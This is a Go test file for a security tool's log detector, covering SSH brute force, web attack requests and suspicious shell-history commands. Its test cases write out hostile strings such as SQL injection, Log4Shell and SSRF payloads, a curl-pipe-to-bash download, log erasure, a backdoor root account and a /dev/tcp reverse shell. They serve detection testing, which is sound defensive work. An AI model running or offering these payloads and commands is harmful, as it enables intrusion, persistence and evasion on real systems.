package logs

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/yingji/yingji/internal/event"
	"github.com/yingji/yingji/internal/finding"
	"github.com/yingji/yingji/rules"
)

func detector(t *testing.T) *Detector {
	t.Helper()
	set, err := rules.SigmaSet()
	if err != nil {
		t.Fatal(err)
	}
	return NewDetector(set)
}

var t0 = time.Date(2026, 3, 1, 2, 0, 0, 0, time.FixedZone("CST", 8*3600))

func sshd(sec int, typ, user, ip string) *event.Event {
	e := &event.Event{At: t0.Add(time.Duration(sec) * time.Second), Source: event.SourceSSHD, Type: typ,
		User: user, SrcIP: ip, SrcPort: 40000 + sec, File: "/var/log/auth.log", Line: int64(sec + 1),
		Raw: fmt.Sprintf("sshd: %s %s from %s", typ, user, ip)}
	if typ == event.TypeSSHFailed {
		e.Set(event.FieldAuthFailure, "true")
	}
	return e
}

func byRule(fs []finding.Finding) map[string]finding.Finding {
	m := map[string]finding.Finding{}
	for _, f := range fs {
		if err := f.Validate(); err != nil {
			panic(err)
		}
		if _, dup := m[f.Rule]; dup {
			m[f.Rule+"#2"] = f
			continue
		}
		m[f.Rule] = f
	}
	return m
}

func TestDetectSSH(t *testing.T) {
	d := detector(t)
	users := []string{"root", "admin", "test", "oracle", "ubuntu", "git"}
	for i := 0; i < 30; i++ { // 30 failures in 5 minutes, 6 accounts
		d.Event(sshd(i*10, event.TypeSSHFailed, users[i%len(users)], "203.0.113.9"))
	}
	d.Event(sshd(400, event.TypeSSHAccepted, "root", "203.0.113.9"))
	// A quiet administrator: two typos, then a login. Not a brute force.
	d.Event(sshd(500, event.TypeSSHFailed, "alice", "198.51.100.4"))
	d.Event(sshd(505, event.TypeSSHFailed, "alice", "198.51.100.4"))
	d.Event(sshd(510, event.TypeSSHAccepted, "alice", "198.51.100.4"))
	got := byRule(d.Findings())

	bf, ok := got["log.ssh_bruteforce"]
	if !ok || bf.Severity != finding.Medium || !strings.Contains(bf.Description, "src_ip=203.0.113.9: 30 event(s)") {
		t.Errorf("brute force: %+v", bf)
	}
	if s, ok := got["log.ssh_spraying"]; !ok || s.Evidence[0].Fields["values"] == "" {
		t.Errorf("spraying: %+v", s)
	}
	succ, ok := got["log.ssh_bruteforce_success"]
	if !ok || succ.Severity != finding.Critical || succ.Category != "NAPWD" || succ.Attack[0] != "T1078" {
		t.Fatalf("success after brute force: %+v", succ)
	}
	quoted := false
	for _, e := range succ.Evidence {
		quoted = quoted || strings.Contains(e.Excerpt, "ssh_accepted root")
	}
	if !quoted {
		t.Errorf("the accepted login is not quoted: %+v", succ.Evidence)
	}
	if root, ok := got["log.ssh_root_login"]; !ok || root.Severity != finding.Low {
		t.Errorf("root login: %+v", root)
	}
	for r, f := range got {
		if strings.Contains(f.Description, "198.51.100.4") {
			t.Errorf("the administrator's typos gave %s: %s", r, f.Description)
		}
	}
}

func web(sec int, ip, target, ua string, status int) *event.Event {
	e := &event.Event{At: t0.Add(time.Duration(sec) * time.Second), Source: event.SourceWeb, Type: event.TypeWebRequest,
		SrcIP: ip, File: "/var/log/nginx/access.log", Line: int64(sec + 1), Raw: ip + " GET " + target}
	path, query, _ := strings.Cut(target, "?")
	e.Set(event.FieldMethod, "GET")
	e.Set(event.FieldURL, target)
	e.Set(event.FieldPath, path)
	e.Set(event.FieldQuery, query)
	e.Set(event.FieldStatus, fmt.Sprint(status))
	e.Set(event.FieldUserAgent, ua)
	return e
}

func TestDetectWeb(t *testing.T) {
	const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"
	cases := []struct {
		target, ua, rule string
	}{
		{"/item.php?id=1%2520UNION%2520SELECT%2520user,password%2520FROM%2520users", browser, "SQL injection attempt"},
		{"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", browser, "Cross-site scripting attempt"},
		{"/download.php?file=../../../../etc/passwd", browser, "Path traversal or local file inclusion attempt"},
		{"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system", browser, "ThinkPHP or other PHP framework RCE attempt"},
		{"/?x=${jndi:ldap://attacker.invalid/a}", browser, "Log4Shell (JNDI lookup) attempt"},
		{"/ping.php?host=127.0.0.1;cat%20/etc/passwd", browser, "Command injection attempt"},
		{"/proxy?url=http://169.254.169.254/latest/meta-data/", browser, "Remote file inclusion or SSRF attempt"},
		{"/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "Web vulnerability scanner"},
		{"/uploads/2026/03/avatar.php", browser, "Script requested in an upload directory"},
		{`/login.jsp?user=admin%22+and+%221%22%3D%221`, browser, "SQL injection attempt"},
		{"/cart.jsp?id=2%27+delete+from+users", browser, "SQL injection attempt"},
		{"/register.jsp?name=any%250D%250ASet-cookie%253A%2BTamper%253D576", browser, "HTTP header injection (CRLF) attempt"},
		{"/go?to=%0d%0aLocation:%20http://attacker.invalid/", browser, "HTTP header injection (CRLF) attempt"},
		{"/wp-config.php.bak", browser, "Request for backup copies or source-control files"},
		{"/index.php~", browser, "Request for backup copies or source-control files"},
		{"/.git/config", browser, "Request for backup copies or source-control files"},
		{"/.env", browser, "Request for backup copies or source-control files"},
	}
	for i, c := range cases {
		d := detector(t)
		d.Event(web(i, "203.0.113.20", c.target, c.ua, 200))
		fs := d.Findings()
		found := false
		for _, f := range fs {
			found = found || f.Title == c.rule
		}
		if !found {
			var titles []string
			for _, f := range fs {
				titles = append(titles, f.Title)
			}
			t.Errorf("%s: want %q, got %q", c.target, c.rule, titles)
		}
	}
	// Ordinary requests report nothing.
	d := detector(t)
	for i, target := range []string{"/", "/index.php?page=2&sort=date", "/static/app.min.js?v=3.2.1",
		"/news/2026/03/01/select-from-our-menu.html", "/search?q=union+station+timetable", "/wp-content/uploads/2026/03/photo.jpg",
		"/api/items?filter=price%3E10&order=asc", "/login?next=%2Fadmin%2F",
		"/search?q=%22the+old+man+and+the+sea%22", "/notes?text=line+one%0D%0Aline+two", "/files/report.old.pdf",
		"/docs/getting-started/.well-known-example", "/blog/rock-and-roll's-history", "/quote?q=%22and%22+%22or%22"} {
		d.Event(web(i, "198.51.100.7", target, browser, 200))
	}
	if fs := d.Findings(); len(fs) > 0 {
		t.Errorf("ordinary requests reported: %+v", fs)
	}
}

func TestDetectScanBurst(t *testing.T) {
	d := detector(t)
	for i := 0; i < 80; i++ {
		d.Event(web(i, "203.0.113.30", fmt.Sprintf("/backup%d.zip", i), "Mozilla/5.0", 404))
	}
	got := byRule(d.Findings())
	if _, ok := got["log.web_scan_burst"]; !ok {
		t.Errorf("no scanning burst: %v", got)
	}
}

func command(line int, cmd string) *event.Event {
	e := &event.Event{Source: event.SourceHistory, Type: event.TypeCommand, User: "root",
		File: "/root/.bash_history", Line: int64(line), Raw: cmd}
	e.Set(event.FieldCommand, cmd)
	return e
}

func TestDetectCommands(t *testing.T) {
	cases := map[string]string{
		"curl -fsSL http://203.0.113.5/x.sh | bash":                               "Download piped into a shell",
		"wget -q http://203.0.113.5/kd -O /tmp/kd && chmod +x /tmp/kd && /tmp/kd": "Download, make executable and run",
		"history -c":                      "Logs or shell history erased",
		"cat /dev/null > /var/log/secure": "Logs or shell history erased",
		"echo ssh-rsa AAAAB3Nza... x@y >> /root/.ssh/authorized_keys": "SSH key added to authorized_keys",
		"useradd -o -u 0 -g 0 sysadm":                                 "Account created or changed from the command line",
		"systemctl stop firewalld":                                    "Security tools or protections disabled",
		"pkill -9 AliYunDun":                                          "Security tools or protections disabled",
		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1":                   "Reverse shell command",
	}
	for cmd, want := range cases {
		d := detector(t)
		d.Event(command(1, cmd))
		found := false
		for _, f := range d.Findings() {
			found = found || f.Title == want
		}
		if !found {
			t.Errorf("%q: no %q", cmd, want)
		}
	}
	d := detector(t)
	for i, cmd := range []string{"ls -la", "cd /var/www/html", "vim /etc/nginx/nginx.conf", "systemctl restart nginx",
		"tail -f /var/log/nginx/access.log", "cat ~/.bash_history", "curl -I https://example.com", "git pull",
		"grep -r password /etc/app", "chmod 644 index.html", "tar czf backup.tgz /var/www"} {
		d.Event(command(i+1, cmd))
	}
	for _, f := range d.Findings() {
		t.Errorf("benign command reported: %s: %+v", f.Title, f.Evidence)
	}
}

func TestDecodeURL(t *testing.T) {
	for in, want := range map[string]string{
		"/a%2520b":          "/a b",
		"/x?q=%3Cscript%3E": "/x?q=<script>",
		"/x?q=a+b":          "/x?q=a b",
		"/x?q=%zz%41":       "/x?q=%zza",
		"/x?q=&lt;img&gt;":  "/x?q=<img>",
		"/UNION%20SELECT":   "/union select",
	} {
		if got := DecodeURL(in); got != want {
			t.Errorf("DecodeURL(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestDetectGroupBound feeds matches from more sources than the detector
// keeps groups for: the rest are counted together, not dropped.
func TestDetectGroupBound(t *testing.T) {
	d := detector(t)
	n := maxGroups + 10
	for i := 0; i < n; i++ {
		ip := fmt.Sprintf("10.%d.%d.%d", i>>16&255, i>>8&255, i&255)
		d.Event(web(i, ip, "/", "sqlmap/1.7", 200))
	}
	groups, other := 0, ""
	for _, f := range d.Findings() {
		if f.Title != "Web vulnerability scanner" {
			continue
		}
		groups++
		if strings.Contains(f.Description, "counted together") {
			other = f.Description
		}
	}
	if groups != maxGroups+1 || !strings.Contains(other, " 10 matching event(s)") {
		t.Errorf("%d scanner findings (want %d), the shared one: %q", groups, maxGroups+1, other)
	}
}

// TestDetectBursts: an address that brute forces twice, hours apart, is
// one finding that counts both bursts.
func TestDetectBursts(t *testing.T) {
	d := detector(t)
	for _, start := range []int{0, 7200} {
		for i := 0; i < 12; i++ {
			d.Event(sshd(start+i*5, event.TypeSSHFailed, "root", "203.0.113.9"))
		}
	}
	n := 0
	for _, f := range d.Findings() {
		if f.Rule != "log.ssh_bruteforce" {
			continue
		}
		n++
		if !strings.Contains(f.Description, "24 event(s) in 2 separate bursts") || f.Evidence[0].Fields["bursts"] != "2" {
			t.Errorf("brute force: %s %v", f.Description, f.Evidence[0].Fields)
		}
		last := f.Evidence[len(f.Evidence)-1]
		if last.Line != 7200+11*5+1 {
			t.Errorf("the last burst's last line is not quoted: %+v", last)
		}
	}
	if n != 1 {
		t.Errorf("%d brute-force findings, want 1", n)
	}
}
